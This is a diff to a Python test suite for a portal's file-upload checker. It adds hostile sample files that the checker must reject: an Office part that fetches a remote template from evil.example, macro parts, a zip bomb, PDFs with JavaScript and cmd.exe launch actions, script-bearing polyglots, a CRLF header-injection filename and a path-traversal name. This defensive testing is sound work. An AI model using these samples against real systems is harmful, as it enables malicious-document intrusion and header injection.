@@ -27,6 +27,7 @@ from tests.support.archives import torn
 from tests.support.components import text_of
 from tests.support.signing_in import sign_in_client
 
+OFFICE = "application/vnd.openxmlformats-officedocument."
 PDF = b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
 HEARD = {
     "what": "interview", "title": "Team manager, duty team", "note": "Cases wait a week.",
@@ -41,21 +42,29 @@ def picture(kind: str) -> bytes:
     return out.getvalue()
 
 
-def workbook(extra: str = "", content_types: str = "") -> bytes:
+FETCHING = (
+    b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://evil.example/t.dotm"'
+    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    b"</Relationships>"
+)
+LINKED = FETCHING.replace(b"attachedTemplate", b"hyperlink")
+
+
+def workbook(extra: str = "", content_types: str = "", content: bytes = b"x") -> bytes:
     """A workbook, perhaps with a further part, or other words in its list of types."""
     out = io.BytesIO()
     Workbook().save(out)
     if not extra and not content_types:
         return out.getvalue()
     changed = io.BytesIO()
-    with zipfile.ZipFile(out) as parts, zipfile.ZipFile(changed, "w") as copy:
+    with zipfile.ZipFile(out) as parts, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as copy:
         for name in parts.namelist():
             data = parts.read(name)
             if name == "[Content_Types].xml" and content_types:
                 data = content_types.encode()
             copy.writestr(name, data)
         if extra:
-            copy.writestr(extra, b"x")
+            copy.writestr(extra, content)
     return changed.getvalue()
 
 
@@ -79,10 +88,11 @@ def texts_of(entry: Entry) -> dict[str, str]:
         ("Photo of a board.JPG", picture("JPEG"), "image/jpeg"),
         ("chart.png", picture("PNG"), "image/png"),
         ("chart.webp", picture("WEBP"), "image/webp"),
+        ("cases.xlsx", workbook(), f"{OFFICE}spreadsheetml.sheet"),
         (
-            "cases.xlsx",
-            workbook(),
-            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+            "a link.xlsx",
+            workbook(extra="xl/_rels/a.rels", content=LINKED),
+            f"{OFFICE}spreadsheetml.sheet",
         ),
     ],
 )
@@ -105,6 +115,17 @@ def test_the_type_of_a_file_is_read_from_its_content(name: str, content: bytes, 
         ("cases.xlsx", workbook()[:300], "damaged"),
         ("cases.xlsx", torn(workbook(), "[Content_Types].xml"), "damaged"),
         ("photo.png", picture("PNG")[:-14], "damaged"),
+        ("cases.xlsx", workbook(extra="xl/macrosheets/sheet1.xml"), "holds macros"),
+        ("cases.xlsx", workbook(extra="xl/activeX/activeX1.bin"), "holds macros"),
+        ("cases.xlsx", workbook(extra="xl/_rels/a.rels", content=FETCHING), "from elsewhere"),
+        ("bomb.xlsx", workbook(extra="xl/bomb.xml", content=b"0" * 300_000_000), "unpacks to more"),
+        ("script.pdf", PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "holds a script"),
+        ("start.pdf", PDF + b"<< /S /Launch /F (cmd.exe) >>", "starts a program"),
+        ("page.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "or a web page"),
+        ("two.pdf", PDF + workbook(), "holds a second file"),
+        ("two.png", picture("PNG") + workbook(), "holds a second file"),
+        ("page.jpg", picture("JPEG") + b"<script>alert(1)</script>", "or a web page"),
+        ("page.svg.png", b"<svg xmlns='x'><script>1</script></svg>", "is no PDF"),
         ("empty.pdf", b"", "is empty"),
         ("large.pdf", PDF + b"\0" * MAX_FILE, "larger than 10 MB"),
         ("a\nb.pdf", PDF, "needs a name"),
@@ -222,6 +243,12 @@ def test_a_file_is_a_download_for_the_team_alone(
     assert answer.headers["X-Content-Type-Options"] == "nosniff"
     assert answer.headers["Cache-Control"] == "no-store"
     assert "sandbox" in answer.headers["Content-Security-Policy"]
+
+    assert "cannot be read" in send("a\r\nSet-Cookie: x=1.pdf", PDF).json["error"]
+    assert send("..\\..\\folder/plan.pdf", PDF).status_code == 200
+    last = desk.services.visits.visit(desk.anna, visit).unsorted_own[-1]
+    assert last.file is not None
+    assert last.file.name == "plan.pdf"
 
     stranger = portal.server.test_client()
     assert stranger.get(path).status_code == 401
